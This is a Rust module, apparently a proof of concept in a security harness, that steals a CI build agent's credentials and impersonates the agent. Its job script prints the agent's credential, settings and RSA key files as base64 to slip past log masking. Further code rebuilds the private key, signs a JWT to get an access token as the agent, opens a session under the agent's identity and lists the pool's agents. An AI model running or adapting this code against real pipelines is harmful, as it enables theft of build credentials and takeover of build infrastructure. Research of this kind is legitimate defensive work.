//! What a thief does who took an agent's key out of its container.

use anyhow::{Context, Result, ensure};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use serde_json::{Value, json};

use crate::Job;

/// A job's script: prints the agent's files, in pieces and encoded as a thief would, so that no masking hides them.
pub const STEAL: &str = r#"echo "container=$(cat /etc/hostname)"
echo "credentials=$(base64 -w0 /azp/agent/.credentials)"
echo "settings=$(base64 -w0 /azp/agent/.agent)"
base64 -w 500 /azp/agent/.credentials_rsaparams | sed 's/^/key=/'
echo whole"#;

/// An agent's `.credentials`, `.credentials_rsaparams` and, where the job printed it, `.agent`.
#[derive(Debug)]
pub struct StolenKey {
    client_id: String,
    token_url: String,
    key: Value,
    settings: Value,
}

/// What the service said.
#[derive(Debug)]
pub struct TokenAnswer {
    /// HTTP status.
    pub status: u16,
    /// Body.
    pub body: String,
}

impl StolenKey {
    /// Reads them out of the log of a job that printed them as base64.
    pub fn read(job: &Job) -> Result<Self> {
        let file = |name: &str| -> Result<Value> {
            let text = job.values(name).concat();
            ensure!(!text.is_empty(), "the job printed no `{name}`");
            Ok(serde_json::from_slice(&STANDARD.decode(text)?)?)
        };
        let credentials = file("credentials")?;
        let text = |name: &str| {
            let value =
                credentials["data"][name].as_str().with_context(|| format!("`.credentials` has `{name}`"));
            value.map(ToOwned::to_owned)
        };
        let settings = if job.value("settings").is_some() { file("settings")? } else { Value::Null };
        Ok(Self {
            client_id: text("clientId")?,
            token_url: text("authorizationUrl")?,
            key: file("key")?,
            settings,
        })
    }

    /// Asks for an access token as the agent would.
    pub async fn token(&self) -> Result<TokenAnswer> {
        let now = std::time::UNIX_EPOCH.elapsed()?.as_secs();
        let claims = json!({
            "iss": self.client_id, "sub": self.client_id, "aud": self.token_url,
            "jti": crate::random_word(24), "nbf": now - 5, "exp": now + 290,
        });
        let assertion = jsonwebtoken::encode(&Header::new(Algorithm::RS256), &claims, &self.encoding()?)?;
        let form = [
            ("grant_type", "client_credentials"),
            ("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"),
            ("client_assertion", &assertion),
        ];
        let client = reqwest::Client::builder().no_proxy().build()?;
        said(client.post(&self.token_url).form(&form)).await
    }

    /// An access token, which the service must give.
    pub async fn access_token(&self) -> Result<String> {
        let answer = self.token().await?;
        ensure!(answer.status == 200, "no access token for the key: {answer:?}");
        let body: Value = serde_json::from_str(&answer.body)?;
        body["access_token"].as_str().map(ToOwned::to_owned).context("a token answer holds a token")
    }

    /// Tries to listen in the agent's place.
    pub async fn open_session(&self, token: &str) -> Result<TokenAnswer> {
        let body = json!({
            "sessionId": "00000000-0000-0000-0000-000000000000",
            "ownerName": "thief",
            "agent": {
                "id": self.setting("agentId")?, "name": self.setting("agentName")?, "version": "4.270.0",
                "osDescription": "Linux",
            },
        });
        let url = format!("{}/sessions?api-version=6.0-preview", self.pool_url()?);
        said(reqwest::Client::builder().no_proxy().build()?.post(url).json(&body).bearer_auth(token)).await
    }

    /// Reads the pool's agents, which any agent may.
    pub async fn list_agents(&self, token: &str) -> Result<TokenAnswer> {
        let url = format!("{}/agents", self.pool_url()?);
        said(reqwest::Client::builder().no_proxy().build()?.get(url).bearer_auth(token)).await
    }

    fn setting(&self, name: &str) -> Result<&Value> {
        self.settings.get(name).with_context(|| format!("`.agent` has `{name}`"))
    }

    fn pool_url(&self) -> Result<String> {
        let server = self.setting("serverUrl")?.as_str().context("an address is a text")?;
        let pool = self.setting("poolId")?;
        Ok(format!("{}/_apis/distributedtask/pools/{pool}", server.trim_end_matches('/')))
    }

    /// The key as PKCS#1 (RFC 8017, A.1.2): a sequence of nine integers.
    fn encoding(&self) -> Result<EncodingKey> {
        let mut integers = integer(&[0]);
        for name in ["modulus", "exponent", "d", "p", "q", "dp", "dq", "inverseQ"] {
            let text = self.key[name].as_str().with_context(|| format!("the key has `{name}`"))?;
            integers.extend(integer(&STANDARD.decode(text)?));
        }
        Ok(EncodingKey::from_rsa_der(&[[&[0x30][..], &length(integers.len())].concat(), integers].concat()))
    }
}

async fn said(request: reqwest::RequestBuilder) -> Result<TokenAnswer> {
    let answer = request.send().await?;
    Ok(TokenAnswer { status: answer.status().as_u16(), body: answer.text().await? })
}

/// A DER integer: without leading zeros, but never negative.
fn integer(bytes: &[u8]) -> Vec<u8> {
    let zeros = bytes.iter().take_while(|byte| **byte == 0).count().min(bytes.len() - 1);
    let mut body = bytes[zeros..].to_vec();
    if body[0] >= 0x80 {
        body.insert(0, 0);
    }
    [[&[0x02][..], &length(body.len())].concat(), body].concat()
}

fn length(of: usize) -> Vec<u8> {
    match u8::try_from(of) {
        Ok(short) if short < 0x80 => vec![short],
        _ => {
            let bytes: Vec<u8> = of.to_be_bytes().into_iter().skip_while(|byte| *byte == 0).collect();
            [vec![0x80 | u8::try_from(bytes.len()).unwrap_or(8)], bytes].concat()
        }
    }
}
